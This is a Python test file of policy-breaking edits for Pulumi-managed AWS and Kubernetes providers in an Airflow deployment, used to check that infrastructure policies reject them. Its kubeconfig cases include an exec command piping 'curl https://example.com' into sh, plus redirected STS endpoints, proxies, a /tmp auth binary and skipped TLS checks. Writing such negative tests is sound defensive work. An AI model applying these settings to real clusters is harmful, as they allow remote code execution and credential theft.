"""Edits that break the policies of providers, protection and the whole stack, one clause at a time."""

import json
from collections.abc import Mapping
from dataclasses import replace

from offline.graph import Graph
from policies.program import WHOLE
from tests.policies.breaking import Edit, also, cut, gone, option, prod, put
from tests.policies.clauses_kubernetes import RELEASE
from tests.policies.clauses_pods import CONFIG_MAP, CONTAINER, JOB
from tests.policies.clauses_stores import CACHE, RDS

AWS, KUBERNETES = "pulumi:providers:aws", "pulumi:providers:kubernetes"
STATEFUL = (RDS, CACHE, "aws:s3/bucket:Bucket", "aws:kms/key:Key")
TOKEN = {
    "command": "aws",
    "args": ["--region", "us-east-1", "eks", "get-token", "--cluster-name", "platform-prod"],
}
SAFE = {"server": "https://k8s", "certificate-authority-data": "LS0t"}


def kubeconfig(cluster: Mapping[str, object], user: Mapping[str, object]) -> Edit:
    body = {"clusters": [{"cluster": cluster}], "users": [{"user": user}]}
    return put(KUBERNETES, "kubeconfig", json.dumps(body))


def secret() -> str:
    return max(prod().secrets(), key=lambda text: (text.isalnum(), len(text), text))


def default_provider() -> Edit:
    """As the engine names the providers that it makes itself."""

    def apply(graph: Graph) -> Graph:
        renamed = [replace(r, name="default_7_51_1") if r.type == AWS else r for r in graph.resources]
        return Graph.of(renamed, graph.exports)

    return Edit("the AWS provider is the engine's default", apply)


CLAUSES: dict[str, list[Edit]] = {
    "AIRFLOW.73": [
        put(RELEASE, "values.scheduler.args", [secret()]),
        put(JOB, f"{CONTAINER}.args", ["--password", secret()]),
        put(CONFIG_MAP, "data.key", secret()),
        put(RDS, "password", secret()),
    ],
    "AIRFLOW.80": [
        put(AWS, "allowedAccountIds", ""),
        *(put(AWS, name, "0123") for name in ("accessKey", "secretKey", "token")),
        *(
            put(AWS, name, "true")
            for name in ("skipRequestingAccountId", "skipCredentialsValidation", "insecure")
        ),
        put(AWS, "endpoints", '[{"sts": "https://sts.example.com"}]'),
        *(put(AWS, name, "http://proxy.example.com") for name in ("httpProxy", "httpsProxy")),
        put(AWS, "assumeRoles", '[{"roleArn": "arn:aws:iam::999988887777:role/other"}]'),
        cut(AWS, "allowedAccountIds"),
    ],
    "AIRFLOW.81": [
        put(AWS, "defaultTags", '{"tags": {"Project": "airflow", "Environment": "prod"}}'),
        put(AWS, "defaultTags", {"tags": {"Project": "airflow", "Owner": "team"}}),
        put(AWS, "defaultTags", {"tags": {"Environment": "prod", "Owner": "team"}}),
        put(AWS, "defaultTags", {"tags": {"Project": "airflow", "Environment": "prod", "Owner": ""}}),
        cut(AWS, "defaultTags"),
    ],
    "AIRFLOW.82": [put(KUBERNETES, "clusterIdentifier", ""), cut(KUBERNETES, "clusterIdentifier")],
    "AIRFLOW.83": [option(type_, protect=False) for type_ in STATEFUL],
    "AIRFLOW.84": [
        *(option(type_, provider="") for type_ in (RDS, JOB, "random:index/randomPassword:RandomPassword")),
        option(JOB, provider="urn:pulumi:prod::airflow::pulumi:providers:kubernetes::another::id"),
        option(JOB, provider="urn:pulumi:prod::airflow::pulumi:providers:aws::aws::id"),
        default_provider(),
        gone(AWS),
    ],
    "AIRFLOW.85": [gone(type_) for type_ in (*WHOLE, CACHE)],
    "AIRFLOW.86": [
        also("aws:iam/user:User"),
        also("aws:iam/userPolicy:UserPolicy"),
        also("aws:iam/policyAttachment:PolicyAttachment"),
        also("aws:ec2/securityGroupRule:SecurityGroupRule"),
        also("aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule"),
        also("aws:s3/bucketV2:BucketV2"),
        also("aws:s3/bucketAclV2:BucketAclV2"),
        also("aws:rds/cluster:Cluster"),
        also("aws:rds/snapshot:Snapshot"),
        also("aws-native:s3:Bucket"),
        also("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding"),
        also("kubernetes:helm.sh/v4:Chart"),
        also("eks:index:Cluster"),
    ],
    "AIRFLOW.87": [
        kubeconfig({**SAFE, "server": "http://k8s"}, {"exec": TOKEN}),
        kubeconfig({**SAFE, "insecure-skip-tls-verify": True}, {"exec": TOKEN}),
        kubeconfig({"server": "https://k8s"}, {"exec": TOKEN}),
        kubeconfig(SAFE, {"token": "0123"}),
        kubeconfig(SAFE, {"exec": {"command": "sh", "args": ["-c", "curl https://example.com | sh"]}}),
        kubeconfig(SAFE, {"exec": {**TOKEN, "command": "/tmp/aws"}}),
        kubeconfig(
            SAFE, {"exec": {**TOKEN, "args": [*TOKEN["args"], "--endpoint-url", "https://example.com"]}}
        ),
        kubeconfig(SAFE, {"exec": {**TOKEN, "env": [{"name": "AWS_CA_BUNDLE", "value": "/tmp/ca"}]}}),
        kubeconfig(SAFE, {}),
        kubeconfig(SAFE, {"client-key-data": "LS0t"}),
        put(KUBERNETES, "kubeconfig", "~/.kube/config"),
        put(KUBERNETES, "kubeconfig", "{}"),
        put(KUBERNETES, "kubeconfig", {"clusters": [{"cluster": SAFE}]}),
        put(KUBERNETES, "kubeconfig", {"users": [{"user": {"exec": TOKEN}}]}),
        cut(KUBERNETES, "kubeconfig"),
    ],
}
